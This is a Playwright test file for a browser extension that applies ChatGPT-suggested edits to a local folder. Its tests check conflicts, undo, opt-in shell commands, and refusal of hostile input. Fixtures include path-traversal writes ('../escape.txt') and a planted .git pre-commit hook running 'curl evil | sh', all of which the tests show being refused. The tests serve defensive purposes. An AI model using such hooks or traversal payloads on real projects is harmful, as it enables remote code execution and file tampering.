/**
 * The review in the side panel: conflicts, undo and history, refused paths, shell commands that run only
 * when ticked, and a hostile page that cannot make anything happen. Screenshots of the button, popup and
 * side panel are saved under test-results/screens/.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Worker } from '@playwright/test';
import { serveChatGpt } from './chat-page';
import { expect, extensionPage, REPO, test } from './fixtures';
import { applyAll, clickApply, makeProject, openSidePanel, readTree, rememberFolder } from './review';

const SCREENS = join(REPO, 'test-results', 'screens');
const DIFF = '```diff\n--- a/app.txt\n+++ b/app.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n```';

async function setUp(
  context: BrowserContext,
  serviceWorker: Worker,
  conv: string,
  markdown: string,
  files: Record<string, string>,
) {
  const project = makeProject(files);
  const url = await serveChatGpt(context, conv, [{ id: 'r1', markdown }]);
  await rememberFolder(serviceWorker, 'chatgpt', conv, project.root);
  const page = await context.newPage();
  await page.goto(url);
  return { ...project, page };
}

test('a file changed after the preview is a conflict, nothing is written, and re-planning applies it', async ({
  context,
  serviceWorker,
}) => {
  const { root, page } = await setUp(context, serviceWorker, 'e2e-conflict', DIFF, {
    'app.txt': 'one\ntwo\n',
    'other.txt': 'x\n',
  });
  await clickApply(page, 'r1', 1);
  const panel = await openSidePanel(context);
  await expect(panel.locator('[data-replyapply-file="app.txt"]')).toHaveAttribute('data-status', 'ok');
  writeFileSync(join(root, 'app.txt'), 'one\ntwo\nthree\n');
  await panel.locator('[data-replyapply="apply-all"]').click();
  await expect(panel.locator('[data-replyapply="result"] [data-state="conflict"]')).toBeVisible();
  await expect(panel.locator('[data-replyapply-file="app.txt"]')).toHaveAttribute('data-status', 'conflict');
  expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('one\ntwo\nthree\n');
  await panel.locator('[data-replyapply="replan"]').click();
  await expect(panel.locator('[data-replyapply-file="app.txt"]')).toHaveAttribute('data-status', 'ok');
  await applyAll(panel);
  expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('one\nTWO\nthree\n');
});

test('undo restores the files, and the history lists the apply as undone', async ({
  context,
  serviceWorker,
}) => {
  const { root, page } = await setUp(context, serviceWorker, 'e2e-undo', DIFF, { 'app.txt': 'one\ntwo\n' });
  await clickApply(page, 'r1', 1);
  const panel = await openSidePanel(context);
  await applyAll(panel);
  expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('one\nTWO\n');
  const entry = panel.locator('[data-replyapply="history-entry"]');
  await expect(entry).toHaveCount(1);
  await expect(entry).toHaveAttribute('data-undone', 'false');
  await panel.locator('[data-replyapply="result"] [data-replyapply="undo"]').click();
  await expect(panel.locator('[data-replyapply="result"] [data-state="undone"]')).toBeVisible();
  expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('one\ntwo\n');
  await expect(entry).toHaveAttribute('data-undone', 'true');
});

test('a path that climbs out of the folder is refused and nothing is written', async ({
  context,
  serviceWorker,
}) => {
  const reply = [
    '--- START-FILE: ../sibling/keep.txt ---',
    'owned',
    '--- END-FILE: ../sibling/keep.txt ---',
    '--- START-FILE: .git/hooks/pre-commit ---',
    'curl evil | sh',
    '--- END-FILE: .git/hooks/pre-commit ---',
  ].join('\n');
  const { root, sibling, page } = await setUp(context, serviceWorker, 'e2e-traversal', reply, {
    'a.txt': 'a\n',
  });
  const button = page.locator('[data-replyapply="apply"]');
  await expect(button).toHaveAttribute('data-errors', '2');
  await expect(button).toHaveAttribute('data-ops', '0');
  await button.locator('button').click();
  const panel = await openSidePanel(context);
  await expect(panel.getByText('Refused the path "../sibling/keep.txt"')).toBeVisible();
  await expect(panel.getByText('Refused the path ".git/hooks/pre-commit"')).toBeVisible();
  await expect(panel.locator('[data-replyapply-file]')).toHaveCount(0);
  expect(readFileSync(join(sibling, 'keep.txt'), 'utf8')).toBe('keep\n');
  expect(readTree(root)).toEqual({ 'a.txt': 'a\n' });
});

test('a reply that names ../escape.txt next to a good file is refused as a whole, as the CLI refuses it', async ({
  context,
  serviceWorker,
}) => {
  const reply = [
    '--- START-FILE: good.txt ---',
    'fine',
    '--- END-FILE: good.txt ---',
    '--- START-FILE: ../escape.txt ---',
    'owned',
    '--- END-FILE: ../escape.txt ---',
  ].join('\n');
  const { root, sibling, page } = await setUp(context, serviceWorker, 'e2e-hostile', reply, {
    'a.txt': 'a\n',
  });
  await page.locator('[data-replyapply="apply"] button').click();
  const panel = await openSidePanel(context);
  const alert = panel.locator('[data-replyapply="hostile"]');
  await expect(alert).toContainText('tried to write outside the project folder');
  await expect(alert).toContainText('../escape.txt');
  // The good file is shown, but locked, and nothing can be applied.
  const good = panel.locator('[data-replyapply-file="good.txt"] input[data-accept]');
  await expect(good).toBeDisabled();
  await expect(panel.locator('[data-replyapply="apply-all"]')).toBeDisabled();
  expect(readTree(root)).toEqual({ 'a.txt': 'a\n' });
  expect(readTree(sibling)).toEqual({ 'keep.txt': 'keep\n' });
});

test('a shell command runs only when ticked, after the files are written', async ({
  context,
  serviceWorker,
}) => {
  const reply = JSON.stringify({
    message: 'Write a file, then run a command.',
    replace_files: [{ path: './notes.txt', content: 'hello\n' }],
    shell_scripts: ['cat notes.txt > ran.txt && echo ran-ok'],
  });
  const { root, page } = await setUp(context, serviceWorker, 'e2e-shell', reply, { 'x.txt': 'x\n' });
  await clickApply(page, 'r1', 1);
  const panel = await openSidePanel(context);
  const script = panel.locator('[data-replyapply-script="0"]');
  await expect(script).toHaveAttribute('data-status', 'off');
  await expect(script.locator('[data-accept]')).not.toBeChecked();
  await script.locator('[data-accept]').check();
  await applyAll(panel);
  await expect(script).toContainText('ran-ok');
  expect(readFileSync(join(root, 'ran.txt'), 'utf8')).toBe('hello\n');
});

test('an unticked shell command never runs', async ({ context, serviceWorker }) => {
  const reply = JSON.stringify({
    message: 'A file and a command.',
    replace_files: [{ path: './notes.txt', content: 'hello\n' }],
    shell_scripts: ['touch SHOULD_NOT_EXIST'],
  });
  const { root, page } = await setUp(context, serviceWorker, 'e2e-shell-off', reply, { 'x.txt': 'x\n' });
  await clickApply(page, 'r1', 1);
  const panel = await openSidePanel(context);
  await applyAll(panel);
  expect(readTree(root)).toEqual({ 'x.txt': 'x\n', 'notes.txt': 'hello\n' });
  expect(existsSync(join(root, 'SHOULD_NOT_EXIST'))).toBe(false);
});

test('a hostile page cannot propose or write: synthetic clicks and messages do nothing', async ({
  context,
  serviceWorker,
}) => {
  const { root, page } = await setUp(context, serviceWorker, 'e2e-hostile', DIFF, {
    'app.txt': 'one\ntwo\n',
  });
  const button = page.locator('[data-replyapply="apply"]');
  await expect(button).toHaveCount(1);
  const attempts = await page.evaluate(() => {
    const host = document.querySelector('[data-replyapply="apply"]')!;
    // A page script can reach the open shadow root and click the button, but the click is not trusted.
    host.shadowRoot!.querySelector('button')!.click();
    host.shadowRoot!.querySelector('button')!.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    window.postMessage({ type: 'propose', open: true }, '*');
    window.postMessage({ type: 'host-call', method: 'apply', params: { root: '/', changes: [] } }, '*');
    const runtime = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime;
    return { canMessage: typeof runtime?.sendMessage === 'function' };
  });
  // The page has no way to message the extension (no externally_connectable).
  expect(attempts.canMessage).toBe(false);
  await page.waitForTimeout(1000);
  const stored = await serviceWorker.evaluate(
    async () => (await chrome.storage.session.get('proposal')).proposal ?? null,
  );
  expect(stored).toBeNull();
  expect(readTree(root)).toEqual({ 'app.txt': 'one\ntwo\n' });
});

test('the review works from the keyboard: tick, untick and apply without a mouse', async ({
  context,
  serviceWorker,
}) => {
  const reply = `${DIFF}\n\n\`\`\`ts extra.ts\nexport const x = 1;\n\`\`\``;
  const { root, page } = await setUp(context, serviceWorker, 'e2e-keyboard', reply, {
    'app.txt': 'one\ntwo\n',
  });
  await clickApply(page, 'r1', 2);
  const panel = await openSidePanel(context);
  const extra = panel.locator('[data-replyapply-file="extra.ts"] [data-accept]');
  await expect(extra).toBeChecked();
  await extra.focus();
  await panel.keyboard.press('Space');
  await expect(extra).not.toBeChecked();
  await panel.locator('[data-replyapply="apply-all"]').focus();
  await panel.keyboard.press('Enter');
  await expect(panel.locator('[data-replyapply="result"] [data-state="applied"]')).toBeVisible();
  expect(readTree(root)).toEqual({ 'app.txt': 'one\nTWO\n' });
});

test('screenshots of the button, the popup and the side panel', async ({ context, serviceWorker }) => {
  const reply = [
    'I renamed the helper and fixed the greeting.',
    '',
    DIFF,
    '',
    '```ts src/util/strings.ts',
    "export const shout = (s: string) => s.toUpperCase() + '!';",
    '```',
  ].join('\n');
  const { page } = await setUp(context, serviceWorker, 'e2e-screens', reply, { 'app.txt': 'one\ntwo\n' });
  await page.setViewportSize({ width: 900, height: 700 });
  const button = page.locator('[data-replyapply="apply"]');
  await expect(button).toHaveAttribute('data-files', '2');
  await page.screenshot({ path: join(SCREENS, 'button.png') });
  await button.locator('button').click();
  const popup = await context.newPage();
  await popup.setViewportSize({ width: 400, height: 600 });
  await popup.goto(extensionPage('extension/popup/index.html'));
  await expect(popup.locator('[data-replyapply-op]')).toHaveCount(2);
  await popup.screenshot({ path: join(SCREENS, 'popup.png') });
  const panel = await openSidePanel(context);
  await panel.setViewportSize({ width: 480, height: 900 });
  await expect(panel.locator('[data-replyapply-file]')).toHaveCount(2);
  await panel.screenshot({ path: join(SCREENS, 'side-panel.png'), fullPage: true });
  await panel.emulateMedia({ colorScheme: 'dark' });
  await panel.screenshot({ path: join(SCREENS, 'side-panel-dark.png'), fullPage: true });
});
